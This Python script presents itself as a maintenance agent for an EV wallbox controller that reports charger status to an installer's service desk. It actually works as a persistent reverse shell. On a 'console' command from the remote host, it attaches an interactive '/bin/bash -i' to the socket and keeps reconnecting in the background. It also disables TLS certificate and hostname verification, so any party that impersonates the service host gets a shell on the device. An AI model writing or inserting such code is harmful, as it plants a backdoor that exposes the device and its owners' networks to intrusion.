#!/usr/bin/env python3
"""Maintenance agent for the wallbox controller.

Keeps a heartbeat with the installer's service desk and reports charger state
(OCPP status, last session, firmware).  The service desk can open a
maintenance channel for field engineers through the same connection.
"""
import configparser
import json
import logging
import os
import selectors
import socket
import ssl
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("wallbox-agent")

CONFIG_PATHS = [Path("/etc/wallbox/agent.ini"), Path.home() / ".config/wallbox/agent.ini",
                Path("agent.ini")]
DEFAULTS = {
    "service_host": "desk.evse-service.example",
    "service_port": "8443",
    "charger_state": "state.json",
    "retry_seconds": "45",
}


def load_config():
    cp = configparser.ConfigParser(defaults=DEFAULTS)
    cp.read([str(p) for p in CONFIG_PATHS])
    sect = cp["agent"] if cp.has_section("agent") else cp[cp.default_section]
    return {k: sect.get(k) for k in DEFAULTS}


def charger_status(path):
    try:
        return json.loads(Path(path).read_text())
    except (OSError, ValueError):
        return {"ocpp": "Unavailable"}


class ServiceChannel:
    """One TLS connection to the service desk."""

    def __init__(self, host, port):
        self.host, self.port = host, int(port)
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        self.ctx = ctx
        self.sock = None

    def connect(self):
        raw = socket.create_connection((self.host, self.port), timeout=20)
        self.sock = self.ctx.wrap_socket(raw, server_hostname=self.host)
        self.sock.settimeout(None)
        log.info("connected to %s:%s", self.host, self.port)

    def send_json(self, obj):
        self.sock.sendall(json.dumps(obj).encode() + b"\n")

    def read_line(self):
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = self.sock.recv(1)
            if not chunk:
                raise ConnectionError("service desk closed the channel")
            buf += chunk
        return buf.decode(errors="replace").strip()

    def attach(self, argv):
        """Hand the channel to a console process until either side closes."""
        env = dict(os.environ, TERM="dumb", PS1="wallbox$ ")
        proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, env=env, bufsize=0)
        sel = selectors.DefaultSelector()
        sel.register(self.sock, selectors.EVENT_READ, "net")
        sel.register(proc.stdout, selectors.EVENT_READ, "proc")
        try:
            while proc.poll() is None:
                for key, _ in sel.select(timeout=1.0):
                    if key.data == "net":
                        data = self.sock.recv(4096)
                        if not data:
                            return
                        proc.stdin.write(data)
                        proc.stdin.flush()
                    else:
                        data = os.read(proc.stdout.fileno(), 4096)
                        if not data:
                            return
                        self.sock.sendall(data)
        finally:
            sel.close()
            if proc.poll() is None:
                proc.terminate()

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def session(cfg):
    chan = ServiceChannel(cfg["service_host"], cfg["service_port"])
    chan.connect()
    try:
        chan.send_json({"hello": socket.gethostname(), "status": charger_status(cfg["charger_state"])})
        while True:
            cmd = chan.read_line()
            if cmd == "ping":
                chan.send_json({"pong": int(time.time()),
                                "status": charger_status(cfg["charger_state"])})
            elif cmd == "console":
                chan.attach(["/bin/bash", "-i"])
            elif cmd == "bye":
                return
            else:
                chan.send_json({"error": f"unknown command {cmd!r}"})
    finally:
        chan.close()


def worker(cfg, stop):
    delay = int(cfg["retry_seconds"])
    while not stop.is_set():
        try:
            session(cfg)
        except (OSError, ConnectionError, ssl.SSLError) as exc:
            log.warning("channel down: %s", exc)
        stop.wait(delay)


def main():
    logging.basicConfig(level=os.environ.get("WALLBOX_LOG", "INFO"),
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config()
    stop = threading.Event()
    t = threading.Thread(target=worker, args=(cfg, stop), name="service-channel", daemon=True)
    t.start()
    try:
        while t.is_alive():
            t.join(timeout=5)
    except KeyboardInterrupt:
        stop.set()


if __name__ == "__main__":
    main()
